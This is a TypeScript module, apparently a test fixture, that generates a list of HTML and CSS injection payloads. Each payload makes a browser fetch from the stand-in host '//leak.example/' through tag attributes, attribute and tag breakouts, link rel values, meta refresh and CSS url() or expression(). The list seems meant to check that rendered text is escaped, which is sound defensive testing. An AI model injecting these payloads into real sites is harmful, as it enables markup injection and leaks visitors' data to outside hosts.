const elsewhere = '//leak.example/';

/** Attributes by which elements would fetch, and those elements. */
const fetching: Readonly<Record<string, string>> = {
  src: 'img|input type=image|video|audio|source|track|embed|iframe|frame|script|script type=module|bgsound|xml|isindex|keygen|portal',
  srcset: 'img|picture><source',
  href: 'image|base|svg><use|svg><image|svg><script|svg><feImage|math><mtext',
  'xlink:href': 'image|svg><a',
  background: 'body|table|td|th|tr',
  cite: 'blockquote|q|ins|del',
  ping: 'a|area',
  poster: 'video',
  data: 'object',
  code: 'applet',
  action: 'form',
  manifest: 'html',
  profile: 'head',
  icon: 'menuitem',
  onload: 'frameset',
  values: 'svg><animate attributeName=href',
  to: 'svg><set attributeName=href',
  x: 'svg><style',
  content: 'meta http-equiv=link',
  'content="0;url': 'meta http-equiv=refresh',
};
const links = 'stylesheet icon prefetch dns-prefetch preconnect import manifest modulepreload prerender';

/** Style that would fetch, in an element or in an attribute. */
const styles = [
  'background:url(U)',
  'background-image:image-set("U" 1x)',
  'list-style:url(U)',
  'cursor:url(U),auto',
  'content:url(U)',
  'border-image:url(U)',
  'mask:url(U)',
  'filter:url(U)',
  'clip-path:url(U)',
  'shape-outside:url(U)',
  'offset-path:url(U)',
  '@import "U";',
  '@font-face{font-family:x;src:url(U)}',
  '@namespace "U";',
  'behavior:url(U)',
  '-moz-binding:url(U)',
  'width:expression(new Image().src="U")',
  '--x:url(U);background:var(--x)',
  'src:url(U)',
  'marker:url(U)',
];

/** Markup that would ask another site for something if a text of a list ever became markup. */
export const leakVectors: readonly string[] = [
  ...[
    ...Object.entries(fetching).flatMap(([attribute, tags]) => tags.split('|').map((tag) => [tag, attribute] as const)),
    ...links.split(' ').map((rel) => [`link rel=${rel}`, 'href'] as const),
  ].flatMap(([tag, attribute]) => [
    `<${tag} ${attribute}="${elsewhere}${attribute}">`,
    `"><${tag} ${attribute}='${elsewhere}${attribute}'>`,
    `</script></style></title><${tag} ${attribute}=${elsewhere}${attribute}>`,
  ]),
  ...styles.flatMap((style) => [
    `<style>*{${style.replaceAll('U', elsewhere)}}</style>`,
    `<p style='${style.replaceAll('U', elsewhere)}'>`,
  ]),
];
